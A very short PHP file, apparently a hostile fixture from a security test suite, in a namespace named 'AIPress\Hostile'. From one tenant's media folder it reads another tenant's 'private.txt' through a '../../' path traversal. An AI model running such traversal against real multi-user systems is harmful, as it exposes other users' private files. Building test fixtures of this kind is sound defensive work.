<?php
/** License: GPL-2.0-or-later */
declare(strict_types=1);

namespace AIPress\Hostile;

chdir(target()['attacker']['media']);
readfile('../../' . target()['victim']['label'] . '/media/private.txt');
